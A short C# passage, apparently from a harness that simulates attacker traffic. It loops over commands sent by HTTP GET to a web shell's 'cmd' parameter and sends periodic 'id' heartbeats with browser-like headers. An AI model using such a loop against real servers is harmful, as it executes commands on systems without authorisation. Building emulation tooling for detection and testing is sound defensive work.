        await ctx.Resume(client);
        await Loop(ctx, random, 4 + random.Next(6),
            command => client.SendAsync(server, HttpMethod.Get, $"{shell}?cmd={Uri.EscapeDataString(command).Replace("%20", "+")}", tag, "command", headers: browser),
            () => client.SendAsync(server, HttpMethod.Get, $"{shell}?cmd=id", tag, "heartbeat", headers: browser), think: 3);
    }
}
